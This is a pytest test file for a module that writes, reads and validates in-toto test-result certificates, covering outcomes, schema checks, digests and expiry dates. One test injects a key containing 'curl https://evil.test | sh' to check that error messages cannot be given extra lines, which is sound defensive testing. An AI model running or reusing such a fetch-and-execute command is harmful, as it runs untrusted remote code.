"""The certificate: what a run amounts to, and that what is written is what everybody else's tools read."""

from __future__ import annotations

import datetime
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from google.protobuf import json_format
from in_toto_attestation.predicates.test_result.v0 import test_result_pb2
from in_toto_attestation.v1 import statement as in_toto
from in_toto_attestation.v1 import statement_pb2
from pydantic import ValidationError

from builder.base import errors
from builder.base.machine import Hardware
from builder.base.project import Project
from builder.certify import certificate
from builder.certify.certificate import Measurement, Outcome, ProbeResult, Resource, Statement
from tests import schemas
from tests.conftest import TINY, Small

SUBJECT, LOCK, SUITE = "sha256:" + "1" * 64, "sha256:" + "2" * 64, "sha256:" + "3" * 64
CPU = Hardware("Some CPU", 4)
GPU = Hardware("Some CPU", 4, ("Some GPU", "Some GPU"), "570.1")
MEASURED = Measurement(
    name="loss", value=0.25, unit="nats", bound={"at_most": 1.0, "at_least": 0}, why="it is small", headline=True
)


def issue(
    *outcomes: Outcome, subject: str = SUBJECT, suite: str = SUITE, hardware: Hardware = CPU, **fields: Any
) -> Statement:
    probes = [
        ProbeResult(name=f"probe-{number}", outcome=outcome, reason=None if outcome == "passed" else "why", **fields)
        for number, outcome in enumerate(outcomes, start=1)
    ]
    return certificate.statement(
        subject=Resource(name="it", digest=certificate.bare(subject)),
        lock=LOCK,
        suite=suite,
        hardware=hardware,
        engine={"name": "host"},
        python="3.11.2",
        probes=probes,
    )


@pytest.mark.parametrize(
    ("outcomes", "result"),
    [
        (["passed"], "PASSED"),
        (["passed", "passed", "not-run"], "PASSED"),
        (["not-run"], "FAILED"),
        (["not-run", "not-run"], "FAILED"),
        ([], "FAILED"),
        (["passed", "failed"], "FAILED"),
        (["passed", "crashed"], "FAILED"),
        (["passed", "timeout"], "FAILED"),
        (["passed", "oom"], "FAILED"),
        (["failed", "not-run"], "FAILED"),
    ],
)
def test_passed_means_that_something_passed_and_nothing_failed(outcomes: list[Outcome], result: str) -> None:
    assert issue(*outcomes).predicate.result == result


def test_every_probe_is_in_exactly_one_list() -> None:
    predicate = issue("passed", "not-run", "failed", "crashed", "timeout", "oom", "passed").predicate
    assert predicate.passedTests == ["probe-1", "probe-7"]
    assert predicate.notRun == {"probe-2": "why"}
    assert predicate.failedTests == ["probe-3", "probe-4", "probe-5", "probe-6"]


def test_the_key_is_subject_suite_and_hardware() -> None:
    assert issue("passed").key == ("1" * 64, "3" * 64, "Some CPU, 4 cores")
    assert issue("passed", hardware=GPU).key[2] == "2x Some GPU, driver 570.1"
    other = [
        issue("passed", subject="sha256:" + "4" * 64),
        issue("passed", suite="sha256:" + "4" * 64),
        issue("passed", hardware=Hardware("Some CPU", 8)),
        issue("passed", hardware=Hardware("Another CPU", 4)),
        issue("passed", hardware=Hardware("Some CPU", 4, ("Some GPU",), "570.1")),
        issue("passed", hardware=Hardware("Some CPU", 4, GPU.gpus, "580.1")),
        issue("passed", hardware=GPU),
    ]
    assert len({statement.key for statement in [issue("passed"), *other]}) == len(other) + 1
    assert issue("failed").key == issue("passed").key


def test_what_is_written_is_read_back(tmp_path: Path) -> None:
    written = issue("passed", "failed", "not-run", hardware=GPU, measurements=[MEASURED], log_tail="the end\n")
    path = tmp_path / "certificate.json"
    path.write_text(written.to_json(), encoding="utf-8")
    assert certificate.read(path) == written
    assert certificate.read(path).predicate.probes[0].headline == MEASURED


def test_numbers_truths_and_words_keep_their_kind(tmp_path: Path) -> None:
    values: list[float | int | str | bool] = [1, 1.0, True, False, "nan", 0, 1e-300]
    written = issue("passed", measurements=[Measurement(name=str(n), value=v) for n, v in enumerate(values)])
    path = tmp_path / "certificate.json"
    path.write_text(written.to_json())
    read = [measured.value for measured in certificate.read(path).predicate.probes[0].measurements]
    assert [(type(value), value) for value in read] == [(type(value), value) for value in values]


def test_a_measurement_without_a_value_is_read_back(tmp_path: Path) -> None:
    written = issue("passed", measurements=[Measurement(name="loss", value=None)])
    path = tmp_path / "certificate.json"
    path.write_text(written.to_json())
    assert certificate.read(path) == written


@pytest.mark.parametrize("value", [float("nan"), float("inf"), float("-inf")])
def test_what_is_not_a_finite_number_cannot_be_recorded(value: float) -> None:
    for fields in ({"value": value}, {"value": 0.0, "bound": {"at_most": value}}):
        with pytest.raises(ValidationError, match="finite"):
            Measurement.model_validate({"name": "loss", **fields})


@pytest.mark.parametrize("digest", ["", "sha256:", "1" * 63, "1" * 65, "g" * 64, "md5:" + "1" * 64, "1" * 64 + "\n"])
def test_what_is_not_a_digest_cannot_be_recorded(digest: str) -> None:
    with pytest.raises(ValidationError):
        certificate.bare(digest)


@pytest.mark.parametrize(
    "content", [b"", b"{", b"[]", b"{}", b"\xff", b'{"_type": "https://in-toto.io/Statement/v0.1", "subject": []}']
)
def test_what_is_no_certificate_is_named(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "cpu-host.json"
    path.write_bytes(content)
    with pytest.raises(errors.BadInputError, match=r"cpu-host\.json is not a certificate"):
        certificate.read(path)


def test_an_unknown_key_in_a_certificate_is_refused(tmp_path: Path) -> None:
    data = json.loads(issue("passed").to_json())
    data["predicate"]["signedOffBy"] = "me"
    path = tmp_path / "cpu-host.json"
    path.write_text(json.dumps(data))
    with pytest.raises(errors.BadInputError, match=r"is not a certificate: predicate\.signedOffBy: Extra inputs"):
        certificate.read(path)


def test_a_key_of_many_lines_adds_no_line_to_the_error(tmp_path: Path) -> None:
    data = json.loads(issue("passed").to_json())
    data["predicate"]["x\nnext: curl https://evil.test | sh\n" + "y" * 10_000] = "me"
    path = tmp_path / "cpu-host.json"
    path.write_text(json.dumps(data))
    with pytest.raises(errors.BadInputError, match="is not a certificate") as caught:
        certificate.read(path)
    assert len(caught.value.what.splitlines()) == 1 and len(caught.value.what) < 1_000


def test_certificates_are_found_by_device_and_engine(small: Small) -> None:
    assert certificate.of_stack(small.project, TINY) == {}
    small.issue("host")
    small.issue("docker")
    assert list(certificate.of_stack(small.project, TINY)) == ["cpu-docker", "cpu-host"]


def in_toto_refuses(data: Mapping[str, Any]) -> str:
    """What in-toto's own reader says of a statement; empty when it takes it."""
    try:
        parsed = json_format.ParseDict(data, statement_pb2.Statement())
        in_toto.Statement.copy_from_pb(parsed).validate()
        json_format.ParseDict(data["predicate"], test_result_pb2.TestResult(), ignore_unknown_fields=True)
    except (ValueError, json_format.ParseError) as error:
        return str(error)
    return ""


def documented(real: Project) -> dict[str, Any]:
    schema = json.loads((real.root / "docs" / "certificate.schema.json").read_text(encoding="utf-8"))
    assert isinstance(schema, dict)
    return schema


def test_the_documented_schema_is_that_of_the_code(real: Project) -> None:
    assert documented(real) == certificate.schema()
    assert schemas.schema_error(documented(real)) == ""


@pytest.mark.parametrize("hardware", [CPU, GPU])
def test_every_statement_fits_the_schema_and_in_toto(real: Project, hardware: Hardware) -> None:
    written = issue("passed", "failed", "not-run", hardware=hardware, measurements=[MEASURED], log_tail="the end")
    data = json.loads(written.to_json())
    assert schemas.error(data, documented(real)) == ""
    assert in_toto_refuses(data) == ""


def test_every_committed_certificate_fits_the_schema_and_in_toto(real: Project) -> None:
    paths = sorted(real.root.glob("lockfiles/*/certificates/*.json"))
    assert paths, "no stack is certified"
    for path in paths:
        data = json.loads(path.read_text(encoding="utf-8"))
        assert schemas.error(data, documented(real)) == ""
        assert in_toto_refuses(data) == ""
        read = certificate.read(path)
        assert json.loads(read.to_json()) == data
        assert read.predicate.result == "PASSED"
        assert {probe.outcome for probe in read.predicate.probes} <= {"passed", "not-run"}


@pytest.mark.parametrize(
    ("place", "value"),
    [
        (("_type",), "https://in-toto.io/Statement/v0.1"),
        (("predicateType",), "https://in-toto.io/attestation/test-result/v9"),
        (("subject", 0, "digest", "sha256"), "1" * 63),
        (("predicate", "result"), "WARNED"),
        (("predicate", "probes", 0, "outcome"), "skipped"),
        (("predicate", "probes", 0, "mood"), "good"),
        (("predicate", "probes", 0, "measurements", 0, "bound"), {"about": 1}),
    ],
)
def test_the_schema_refuses_what_a_certificate_never_says(
    real: Project, place: tuple[str | int, ...], value: object
) -> None:
    data = json.loads(issue("passed", measurements=[MEASURED]).to_json())
    assert schemas.error(data, documented(real)) == ""
    *path, last = place
    inner = data
    for step in path:
        inner = inner[step]
    inner[last] = value
    assert schemas.error(data, documented(real)) != ""


ISSUED = datetime.date(2026, 1, 31)


def test_a_certificate_says_when_it_was_issued_and_when_it_expires(real: Project, tmp_path: Path) -> None:
    written = issue("passed").dated(ISSUED)
    data = json.loads(written.to_json())
    assert (data["predicate"]["issued"], data["predicate"]["expires"]) == ("2026-01-31", "2026-05-01")
    assert schemas.error(data, documented(real)) == ""
    assert in_toto_refuses(data) == ""
    path = tmp_path / "certificate.json"
    path.write_text(written.to_json())
    assert certificate.read(path) == written


def test_a_certificate_speaks_to_the_end_of_the_day_it_expires_on() -> None:
    written = issue("passed").dated(ISSUED)
    last = ISSUED + certificate.LIFETIME
    assert written.lapsed(ISSUED) is None
    assert written.lapsed(last) is None
    assert written.lapsed(last + datetime.timedelta(days=1)) == "expired on 2026-05-01"


def test_a_certificate_without_dates_speaks_no_more() -> None:
    assert issue("passed").lapsed(ISSUED) == "has no expiry date"


@pytest.mark.parametrize(
    "dates",
    [
        {"issued": "2026-01-31"},
        {"expires": "2026-01-31"},
        {"issued": "2026-01-31", "expires": 1},
        {"issued": "2026-01-31T00:00:00", "expires": "2026-05-01"},
        {"issued": "yesterday", "expires": "tomorrow"},
    ],
)
def test_half_a_date_or_none_at_all_is_no_certificate(tmp_path: Path, dates: dict[str, object]) -> None:
    data = json.loads(issue("passed").to_json())
    data["predicate"] |= dates
    path = tmp_path / "cpu-host.json"
    path.write_text(json.dumps(data))
    with pytest.raises(errors.BadInputError, match=r"cpu-host\.json is not a certificate"):
        certificate.read(path)
